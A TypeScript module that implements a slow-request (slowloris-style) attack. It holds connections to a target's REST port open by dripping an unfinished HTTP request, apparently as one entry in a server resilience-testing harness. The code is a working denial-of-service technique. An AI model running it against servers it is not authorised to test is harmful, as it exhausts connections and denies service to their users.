import { once } from 'node:events';
import { connect } from 'node:net';
import { type Attack, attackConnections } from './attack.ts';
import { untilAborted } from './until-aborted.ts';

/** Requests that never become whole: each connection is held as long as the server lets it. */
export function httpUnfinished(name: string, head: string, more: string): Attack {
  return {
    name,
    run: ({ host, restPort: port }, signal) =>
      untilAborted(signal, attackConnections, async (leave) => {
        const socket = connect({ host, port });
        socket.on('error', () => undefined); // it is reset
        const drip = setInterval(() => socket.write(more), 100);
        const cut = (): void => void socket.destroy();
        leave.addEventListener('abort', cut, { once: true });
        try {
          socket.write(head);
          socket.resume();
          await once(socket, 'close');
        } finally {
          clearInterval(drip);
          leave.removeEventListener('abort', cut);
        }
      }),
  };
}
